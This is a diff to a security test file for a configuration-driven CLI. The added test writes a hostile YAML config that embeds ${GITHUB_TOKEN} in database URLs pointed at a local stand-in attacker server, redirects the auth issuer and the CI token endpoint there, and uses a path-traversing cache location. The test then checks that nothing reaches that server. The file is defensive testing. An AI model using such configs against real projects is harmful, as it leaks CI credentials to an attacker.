@@ -1,10 +1,12 @@
 import { existsSync } from 'node:fs';
-import { chmod, cp, rm, symlink } from 'node:fs/promises';
+import { chmod, cp, readFile, rm, symlink } from 'node:fs/promises';
 import { relative } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
 import { type Attacker, startAttacker } from '../support/attacker.js';
+import { accessOfCommands } from '../support/commands.js';
 import { startEndpoint, status } from '../support/endpoint.js';
+import { exampleOf, furnishedUser } from '../support/furnished-user.js';
 import type { Finished } from '../support/in-process.js';
 import { startIssuer } from '../support/issuer.js';
 import { authSection, logIn } from '../support/login.js';
@@ -205,8 +207,8 @@ const files = ['.bash_profile', 'base.json'];
 
 const harmlessSuite = '{ prompt: p.md, tickets: labelled.csv }';
 
-/** Sets a scene: the folder as it was cloned, with a recording that its author made. */
-async function sceneOf(attack: Attack): Promise<Scene> {
+/** Sets a scene: the folder as it was cloned, with the recording that its author made where a command needs it. */
+async function sceneOf(attack: Attack, command = ''): Promise<Scene> {
   const [user, attacker, outside] = await Promise.all([newUser(), startAttacker(), temporaryFolder()]);
   const issuer = attack.isLoggedIn && (await startIssuer());
   const scene: Scene = {
@@ -230,9 +232,11 @@ async function sceneOf(attack: Attack): Promise<Scene> {
   await user.folder.write('t.csv', csvOf(['a', 'b']));
   await user.folder.write('p.md', '---\ncategories: [{ name: Bug }]\n---\nSort: {text}');
   await user.folder.write('labelled.csv', 'id,text,urgent,categories\n1,broken,false,Bug\n');
-  await user.configure(yamlWith(harmlessSuite));
-  expect(await user.run(['check', '--record', 'r.jsonl'])).toMatchObject({ code: 0 });
-  await rm(user.folder.file('home'), { recursive: true });
+  if (command.includes('r.jsonl')) {
+    await user.configure(yamlWith(harmlessSuite));
+    expect(await user.run(['check', '--record', 'r.jsonl'])).toMatchObject({ code: 0 });
+    await rm(user.folder.file('home'), { recursive: true });
+  }
   if (issuer) {
     await user.folder.write('home/config.yaml', authSection(issuer, 'llm: { auth: login }\n'));
     await logIn(user, 'ann');
@@ -257,7 +261,7 @@ describe.each(Object.entries(attacks))('%s', (_, attack) => {
   const [first = ''] = asks;
 
   it.each(asks)('needs trust for: %s', async (command) => {
-    await using scene = await sceneOf(attack);
+    await using scene = await sceneOf(attack, command);
     for (const env of [{}, { CI: 'true' }, { TICKETSIFT_TRUST_CONFIG: `sha256-${'x'.repeat(43)}.` }]) {
       const done = await scene.run(command.split(' '), env);
       expectNothing(scene, done);
@@ -268,7 +272,7 @@ describe.each(Object.entries(attacks))('%s', (_, attack) => {
   });
 
   it.each(doesNotAsk)('needs none for: %s', async (command) => {
-    await using scene = await sceneOf(attack);
+    await using scene = await sceneOf(attack, command);
     const done = await scene.run(command.split(' '));
     expect(scene.attacker.received()).not.toContain('hush');
     expect(done.stdout + done.stderr).not.toContain('hush');
@@ -364,6 +368,37 @@ describe('without trust', () => {
     expect(scene.attacker.received()).toBe('');
     expect(terminal.output()).not.toContain('hush');
     expect(terminal.output()).toContain('Nothing was done');
+  });
+});
+
+describe('in a folder that is hostile in every setting', async () => {
+  const hostile = (port: number) => `
+base_url: http://localhost:${port}/v1
+prompt: postgres://\${GITHUB_TOKEN}@127.0.0.1:${port}/x
+cache: ../../tmp/ticketsift-of-the-attacker.db
+llm: { auth: login }
+auth: { issuer: "http://127.0.0.1:${port}", client_id: x, require: true, ci: github, storage: file }
+prompts: { url: "postgres://\${GITHUB_TOKEN}@127.0.0.1:${port}/x" }
+sources:
+  mine: { url: "postgres://\${GITHUB_TOKEN}@127.0.0.1:${port}/x", query: ../q.sql, identity: token }
+  t.csv: { url: "postgres://\${GITHUB_TOKEN}@127.0.0.1:${port}/x", table: t }
+`;
+  it.each([...(await accessOfCommands()).keys()])('%s reaches nothing', async (command) => {
+    await using attacker = await startAttacker();
+    await using user = await furnishedUser();
+    const harmless = await readFile(user.folder.file('ticketsift.yaml'), 'utf8');
+    const env = { ...secrets, ACTIONS_ID_TOKEN_REQUEST_URL: `http://127.0.0.1:${attacker.port}` };
+    const all = hostile(attacker.port);
+    // With less of it a command comes further.
+    const withoutLogin = all.replace(/^(llm|auth):.*\n/gm, '');
+    for (const yaml of [all, all.replace('require: true, ', ''), withoutLogin]) {
+      await user.folder.write('ticketsift.yaml', harmless + yaml);
+      const { code, stdout, stderr } = await user.run(exampleOf(command), env);
+      expect({ code, stderr }).toMatchObject({ code: expect.toBeOneOf([0, 2]) });
+      if (code === 2) expect(stderr).toMatch(/\(not_trusted\)|No OpenID provider is configured/);
+      expect(attacker.received()).toBe('');
+      expect(stdout + stderr).not.toContain('hush');
+    }
   });
 });
 
